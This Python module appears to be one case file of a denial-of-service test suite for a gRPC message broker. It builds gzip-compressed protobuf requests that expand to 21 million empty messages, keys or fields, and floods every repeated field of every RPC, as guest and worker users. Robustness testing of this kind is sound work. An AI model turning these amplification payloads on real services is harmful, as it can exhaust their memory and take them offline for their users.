"""Messages of very many fields, each of which becomes more than it was: number 7."""

import asyncio
from collections.abc import Callable, Iterable, Iterator
from itertools import repeat
from typing import Final

from google.protobuf.descriptor import Descriptor, FieldDescriptor

from abuse.attacks.requests import OTHER_BYTES, packed_calls
from abuse.peer import GZIP, Peer, Target, varint, zipped
from abuse.siege import GUEST, PARSED_CALM_MS_MIN, WORKER, Attack, Case
from latermq_broker.services.registry import FILES

MESSAGES: Final = 21_000_000
RUN: Final = 100_000  # fields in a piece
LENGTH_DELIMITED: Final = 2
DEPTH_MAX: Final = 3


def many(field: bytes, count: int) -> Iterator[bytes]:
    return repeat(field * RUN, count // RUN)


def empty_messages() -> Iterable[bytes]:
    """A SendMessage of very many messages with nothing in them."""
    return many(b"\x0a\x00", MESSAGES)


def within(numbers: Iterable[int], field: bytes, count: int) -> Callable[[], Iterator[bytes]]:
    """The same field again and again, inside messages that are inside each other."""

    def pieces() -> Iterator[bytes]:
        size, heads = len(field) * (count // RUN * RUN), []
        for number in reversed(list(numbers)):
            heads.append(varint(number << 3 | LENGTH_DELIMITED) + varint(size))
            size += len(heads[-1])
        yield b"".join(reversed(heads))
        yield from many(field, count)

    return pieces


def paths(descriptor: Descriptor, depth: int = DEPTH_MAX) -> Iterator[tuple[int, ...]]:
    """Field numbers of the way to each repeated field that can be empty."""
    for field in descriptor.fields:
        if field.type not in (
            FieldDescriptor.TYPE_MESSAGE, FieldDescriptor.TYPE_STRING, FieldDescriptor.TYPE_BYTES
        ):  # fmt: skip
            continue
        if field.is_repeated:
            yield (field.number,)
        if field.message_type is not None and depth > 1:
            for rest in paths(field.message_type, depth - 1):
                yield (field.number, *rest)


def every_repeated_field() -> Iterator[tuple[str, bytes]]:
    """(path, request of 4 MiB): for each call, each of its repeated fields, empty."""
    for module in FILES:
        for service in module.DESCRIPTOR.services_by_name.values():
            for rpc in service.methods:
                for way in paths(rpc.input_type):
                    field = varint(way[-1] << 3 | LENGTH_DELIMITED) + b"\0"
                    count = (OTHER_BYTES - 100) // len(field) // RUN * RUN
                    request = b"".join(within(way[:-1], field, count)())
                    yield f"/{service.full_name}/{rpc.name}", request


def each_of_them() -> Attack:
    async def attack(target: Target) -> str:
        told = 0
        async with await Peer.open(target) as peer:
            for path, request in every_repeated_field():
                stream_id = peer.call(path, GZIP)
                await peer.send(stream_id, await asyncio.to_thread(zipped, [request]), end=True)
                answer = await peer.answered(stream_id, 10.0)
                told += answer.ended
        return f"{told} answered"

    return attack


CASES: Final = (
    Case(
        number=7,
        name="empty-messages",
        what="41 KB of gzip that are 21 million empty messages, unsigned",
        attack=packed_calls(empty_messages, end=True),
        always=False,
    ),
    Case(
        number=7,
        name="empty-messages-signed",
        what="the same by a user without the right to send",
        attack=packed_calls(empty_messages, end=True),
        by=GUEST,
    ),
    Case(
        number=7,
        name="empty-keys",
        what="a message of 21 million empty keys, by a user who may send it",
        attack=packed_calls(within((1, 3), b"\x12\x00", MESSAGES), end=True),
        by=WORKER,
    ),
    Case(
        number=7,
        name="empty-properties",
        what="a message of 21 million empty properties, by a user who may send it",
        attack=packed_calls(within((1,), b"\x12\x00", MESSAGES), end=True),
        by=WORKER,
        always=False,
    ),
    Case(
        number=7,
        name="unknown-fields",
        what="a message of 21 million fields that nobody knows",
        attack=packed_calls(within((1,), b"\x78\x00", MESSAGES), end=True),
        by=WORKER,
        always=False,
    ),
    Case(
        number=7,
        name="every-repeated-field",
        what="each repeated field of each call, empty, 4 MiB of it, by a user without rights",
        attack=each_of_them(),
        by=GUEST,
        seconds_max=60.0,
        calm_ms_min=PARSED_CALM_MS_MIN,
    ),
)
